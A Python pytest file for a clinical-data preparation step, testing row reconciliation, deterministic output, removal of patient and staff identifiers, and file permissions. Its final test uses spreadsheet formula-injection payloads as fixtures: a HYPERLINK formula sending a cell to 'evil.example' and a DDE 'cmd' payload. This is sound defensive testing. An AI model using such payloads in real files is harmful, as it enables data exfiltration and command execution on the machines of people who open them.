"""The prepare step end to end: reconciliation, determinism, no identifiers in any output."""

from __future__ import annotations

import dataclasses
import json
import os
import stat

import handmade
import pandas as pd
import pytest
import yaml

from analysis.cli import main
from analysis.data.prepare import PROCESSED_FILES, prepare, write_prepared
from analysis.data.prepare_config import PrepareConfig


def _reconciles(dq: pd.DataFrame) -> bool:
    by = dq.groupby("table")
    return bool(
        (by["rows_in"].first() == by["rows_kept"].first() + by["rows_excluded"].sum()).all()
    )


def test_data_quality_reconciles_on_the_simulated_cohort(small_prepared, small_cohort):
    dq = small_prepared.data_quality
    assert _reconciles(dq)
    first = dq.groupby("table").first()
    for table in ("patients", "treatments", "assessments", "complications"):
        assert first.loc[table, "rows_in"] == len(getattr(small_cohort, table))
        assert first.loc[table, "rows_kept"] == len(getattr(small_prepared, table))
    assert first.loc["episodes", "rows_kept"] == len(small_prepared.episodes)
    in_dur = small_prepared.episodes["in_duration_analysis"]
    assert first.loc["duration_analysis", "rows_kept"] == in_dur.sum()
    reasons = small_prepared.episodes.loc[~in_dur, "dur_exclusion_reason"].value_counts()
    got = dq[dq["table"] == "duration_analysis"].set_index("reason")["rows_excluded"]
    assert got.sort_index().to_dict() == reasons.sort_index().to_dict()


def test_excluded_episode_takes_its_rows_along_and_says_so(hand_cfg, tmp_path):
    got = prepare(
        handmade.write(handmade.tables(), tmp_path),
        hand_cfg,
        key=b"k",
    )
    dq = got.data_quality
    assert _reconciles(dq)
    rows = dq.set_index("table")
    assert rows.loc["assessments", "rows_excluded"] == 1 and len(got.assessments) == 12
    assert rows.loc["complications", "rows_excluded"] == 1 and len(got.complications) == 3
    assert "excluded" in rows.loc["assessments", "reason"]
    assert set(got.assessments["episode_key"]) <= set(got.episodes["episode_key"])


def test_same_input_same_bytes_even_when_rows_are_shuffled(hand_cfg, tmp_path):
    tables = handmade.tables()
    a = prepare(handmade.write(tables, tmp_path / "a"), hand_cfg, key=b"k")
    shuffled = {n: df.sample(frac=1.0, random_state=3) for n, df in tables.items()}
    b = prepare(handmade.write(shuffled, tmp_path / "b"), hand_cfg, key=b"k")
    write_prepared(a, tmp_path / "out_a")
    write_prepared(b, tmp_path / "out_b")
    for name in PROCESSED_FILES:
        assert (tmp_path / "out_a" / name).read_bytes() == (
            tmp_path / "out_b" / name
        ).read_bytes(), name


def test_no_identifier_in_any_processed_file(small_prepared, small_cohort, tmp_path):
    write_prepared(small_prepared, tmp_path / "processed")
    t = small_cohort.treatments
    originals = (
        set(t["episode_id"]) | set(t["patient_id"]) | set(t["clinic_id"]) | set(t["injector_id"])
    )
    originals |= set(small_cohort.patients["patient_id"])
    for name in PROCESSED_FILES:
        path = tmp_path / "processed" / name
        data = path.read_bytes()
        if name.endswith(".json"):
            cells = pd.DataFrame([json.loads(data)])
        else:
            cells = pd.read_parquet(path) if name.endswith(".parquet") else pd.read_csv(path)
        text = set(cells.astype(str).to_numpy().ravel()) | set(cells.columns)
        assert not (text & originals), name
        sample = (
            sorted(originals)[:200]
            + sorted(t["clinic_id"].unique())
            + sorted(t["injector_id"].unique())
        )
        assert not any(o.encode() in data for o in sample), name


def test_keys_depend_on_the_key(small_raw_dir, small_params, small_prepared):
    other = prepare(small_raw_dir, PrepareConfig.from_params(small_params), key=b"another key")
    assert not set(other.episodes["episode_key"]) & set(small_prepared.episodes["episode_key"])
    assert not set(other.episodes["clinic"]) & set(small_prepared.episodes["clinic"])


def test_prepared_data_is_immutable(small_prepared):
    with pytest.raises(dataclasses.FrozenInstanceError):
        small_prepared.episodes = pd.DataFrame()


def test_stage_writes_tables_metrics_and_private_staff_codes(
    hand_params, tmp_path, monkeypatch, capsys
):
    monkeypatch.setenv("BONTA_PSEUDONYM_KEY", "stage-key")
    raw = handmade.write(handmade.tables(), tmp_path / "raw")
    par = tmp_path / "params.yaml"
    par.write_text(yaml.safe_dump(hand_params))
    out = tmp_path / "processed"
    out.mkdir()
    (out / "stale.parquet").write_bytes(b"old")  # a previous run's leftover is replaced
    args = [
        "prepare",
        "--params",
        str(par),
        "--input",
        str(raw),
        "--out",
        str(out),
        "--metrics",
        str(tmp_path / "reports" / "data_quality.json"),
        "--private",
        str(tmp_path / "private"),
    ]
    assert main(args) == 0
    assert sorted(p.name for p in out.iterdir()) == sorted(PROCESSED_FILES)
    metrics = json.loads((tmp_path / "reports" / "data_quality.json").read_text())
    assert metrics["treatments"] == {"rows_in": 9, "rows_kept": 8, "rows_excluded": 1}
    assert metrics["cutoff_date"] == handmade.CUTOFF
    staff = tmp_path / "private" / "staff_codes.csv"
    assert stat.S_IMODE(os.stat(staff).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(staff.parent).st_mode) == 0o700
    codes = pd.read_csv(staff)
    assert set(codes["label"]) == {
        "Clinic Nord",
        "Clinic Sued",
        "Dr. Alpha",
        "Dr. Beta",
        "Dr. Gamma",
    }
    episodes = pd.read_parquet(out / "episodes.parquet")
    assert set(episodes["clinic"]) <= set(codes["code"])
    err = capsys.readouterr().err
    assert "PAT-" not in err and "EPI-" not in err


def test_staff_labels_a_spreadsheet_would_execute_are_neutralised(
    hand_params, tmp_path, monkeypatch
):
    monkeypatch.setenv("BONTA_PSEUDONYM_KEY", "stage-key")
    tables = handmade.tables()
    labels = {
        "Clinic Nord": '=HYPERLINK("http://evil.example/?"&A1,"Clinic Nord")',
        "Dr. Alpha": "+cmd|' /C calc'!A0",
        "Dr. Beta": "-2+3",
    }
    for col in ("clinic_id", "injector_id"):
        tables["treatments"][col] = tables["treatments"][col].replace(labels)
    raw = handmade.write(tables, tmp_path / "raw")
    par = tmp_path / "params.yaml"
    par.write_text(yaml.safe_dump(hand_params))
    private = tmp_path / "private"
    args = ["prepare", "--params", str(par), "--input", str(raw)]
    args += ["--out", str(tmp_path / "processed"), "--private", str(private)]
    assert main(args) == 0
    cells = set(pd.read_csv(private / "staff_codes.csv")["label"])
    assert {"'" + label for label in labels.values()} <= cells
    assert "Clinic Sued" in cells and "Dr. Gamma" in cells
